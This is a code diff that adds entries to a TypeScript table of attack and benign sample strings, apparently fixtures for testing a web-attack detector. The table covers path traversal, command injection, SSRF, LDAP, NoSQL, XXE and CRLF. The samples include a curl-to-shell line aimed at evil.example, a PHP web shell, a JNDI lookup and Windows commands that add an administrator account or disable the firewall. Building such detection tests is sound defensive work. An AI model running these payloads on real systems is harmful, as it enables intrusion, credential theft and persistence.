@@ -32,13 +32,17 @@ const CATEGORIES: Record<string, { attacks: string[]; benign: string[] }> = {
     benign: ['a < b > c', 'Fish & Chips', '<b>bold</b>', 'javascript:void(0)'],
   },
   lfi: {
-    attacks: ['../../../../etc/passwd', '..%2f..%2fwindows/win.ini', '/proc/self/environ', 'php://filter/convert.base64-encode/resource=index.php', '....//....//etc/shadow'],
-    benign: ['wait... what', 'docs/guide.html', 'version 1.2.3'],
+    attacks: [
+      '../../../../etc/passwd', '..%2f..%2fwindows/win.ini', '/proc/self/environ', 'php://filter/convert.base64-encode/resource=index.php', '....//....//etc/shadow',
+      '/usr/local/apache/logs/access_log', '/etc/php.d/dom.ini', '/opt/apache2/conf/httpd.conf', '..2f..2f..2fetc2fpasswd', 'admin/access_log',
+    ],
+    benign: ['wait... what', 'docs/guide.html', 'version 1.2.3', '/home/dashboard', '/account/settings', 'my.conf file'],
   },
   rfi: { attacks: ['http://evil.example/shell.txt?', 'https://evil.example/x.php%00'], benign: ['https://example.com/docs/page.html'] },
   rce: {
-    attacks: ['; cat /etc/passwd', '| id', '`whoami`', '$(curl http://evil.example/x|sh)', 'a;c$IFS/etc/passwd', 'x && ping -c 3 evil', "() { :; }; /bin/bash -c 'id'"],
-    benign: ['copy; paste', 'time; more than that', 'cats & dogs'],
+    attacks: ['; cat /etc/passwd', '| id', '`whoami`', '$(curl http://evil.example/x|sh)', 'a;c$IFS/etc/passwd', 'x && ping -c 3 evil', "() { :; }; /bin/bash -c 'id'",
+      'net localgroup Administrators hacker /ADD', 'netsh firewall set opmode disable', 'reg add "HKLM\\System" /v x /d 0 /f', "perl -e 'print 1'", 'which perl'],
+    benign: ['copy; paste', 'time; more than that', 'cats & dogs', 'the net user count', 'which perl module?'],
   },
   'code-injection': {
     attacks: ['<?php system($_GET["c"]); ?>', "require('child_process').exec('id')", 'java.lang.Runtime.getRuntime().exec("id")', '${jndi:ldap://evil.example/a}', 'O:8:"stdClass":1:{s:1:"a";}'],
@@ -49,9 +53,15 @@ const CATEGORIES: Record<string, { attacks: string[]; benign: string[] }> = {
     attacks: ['http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:6379/', 'gopher://localhost:25/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://[::1]/admin', 'http://2130706433/'],
     benign: ['https://example.com/image.png', 'http://10x.example.org/'],
   },
-  ldap: { attacks: ['*)(uid=*))(|(uid=*', '(&(uid=admin)(!(&(1=0)(userPassword=q))))', 'admin)(|(objectclass=*)'], benign: ['(555) 123-4567', 'smith, john'] },
+  ldap: { attacks: ['*)(uid=*))(|(uid=*', '(&(uid=admin)(!(&(1=0)(userPassword=q))))', 'admin)(|(objectclass=*)', ')(cn=))', "*()|&'"], benign: ['(555) 123-4567', 'smith, john', 'f(x) (y)', 'a (b) c=d'] },
   nosql: { attacks: ['{"$gt": ""}', "true, $where: '1 == 1'", 'db.users.find({})'], benign: ['price $5', 'total: 5$'] },
-  xxe: { attacks: ['<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>', '<xi:include href="file:///etc/passwd"/>'], benign: ['<?xml version="1.0"?><order><id>5</id></order>'] },
+  xxe: {
+    attacks: [
+      '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>', '<xi:include href="file:///etc/passwd"/>', '<?xml version="1.0" encoding="UTF-7"?>',
+      '<![CDATA[<]]>SCRIPT<![CDATA[>]]>', '<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML>', 'count(/child::node())', "x' or name()='username", '<x xmlns:php="http://php.net/xsl">',
+    ],
+    benign: ['<?xml version="1.0" encoding="UTF-8"?><order><id>5</id></order>', '<note><![CDATA[a < b]]></note>', 'what is your name()'],
+  },
   crlf: { attacks: ['%0d%0aSet-Cookie:a=b', 'x\r\nLocation: http://evil'], benign: ['line one\nline two'] },
   'open-redirect': { attacks: [], benign: [] },
 };
